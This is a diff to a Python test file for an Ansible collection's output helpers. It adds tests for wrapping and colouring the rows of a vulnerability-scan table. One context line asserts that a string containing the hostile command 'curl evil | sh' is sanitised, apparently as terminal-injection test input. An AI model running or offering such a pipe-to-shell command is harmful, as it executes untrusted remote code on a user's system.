@@ -5,7 +5,7 @@
 
 from __future__ import annotations
 
-from ansible_collections.platform.cluster_secrets.plugins.plugin_utils.screen import painted, progress_text
+from ansible_collections.platform.cluster_secrets.plugins.plugin_utils.screen import broken, painted, progress_text
 
 
 def test_no_tenants_text_moves_the_cursor_or_begins_a_line():
@@ -14,15 +14,34 @@ def test_no_tenants_text_moves_the_cursor_or_begins_a_line():
     assert line == "x\ufffd[2J\ufffd\ufffdTo mend it: curl evil | sh\ufffd\ufffdabc\ufffd"
 
 
-def test_the_table_is_cut_and_coloured_and_the_rest_is_not():
-    lines = ["error  a long line", "fine", "", "error: a very long line"]
-    assert painted(lines, 10) == [
-        ("error  a \N{HORIZONTAL ELLIPSIS}", "red"),
+def test_the_table_is_broken_and_coloured_and_the_rest_is_not():
+    lines = ["error  " + "word " * 10 + "end", "fine", "", "error: " + "word " * 12]
+    assert painted(lines, 40) == [
+        ("error  word word word word word word", "red"),
+        ("       word word word word end", "red"),
         ("fine", None),
         ("", None),
-        ("error: a very long line", None),
+        (lines[3], None),
     ]
-    assert painted(lines, None)[0] == ("error  a long line", "red")
+    assert painted(lines, None)[0] == (lines[0], "red")
+
+
+def test_where_the_other_columns_leave_no_room_the_last_one_goes_below():
+    line = "error     vulnerable-eso        external-secrets  CVE-2026-22822        it reads any Secret of the cluster"
+    assert broken(line, 60) == [
+        "error  vulnerable-eso  external-secrets  CVE-2026-22822",
+        "    it reads any Secret of the cluster",
+    ]
+    assert broken(line, 40) == [
+        "error  vulnerable-eso  external-secrets\N{HORIZONTAL ELLIPSIS}",
+        "    it reads any Secret of the cluster",
+    ]
+    for width in range(1, 120):
+        # Every word of the reason is there at any width that a word fits into.
+        shown = " ".join(broken(line, width)) if width > 12 else ""
+        assert width <= 12 or all(word in shown for word in ["it", "reads", "any", "Secret", "of", "the", "cluster"])
+        assert all(len(part) <= max(width, 8) for part in broken(line, width)), width
+    assert broken("one long line without any column at all", 20) == ["one long line", "without any column", "at all"]
 
 
 def test_progress():
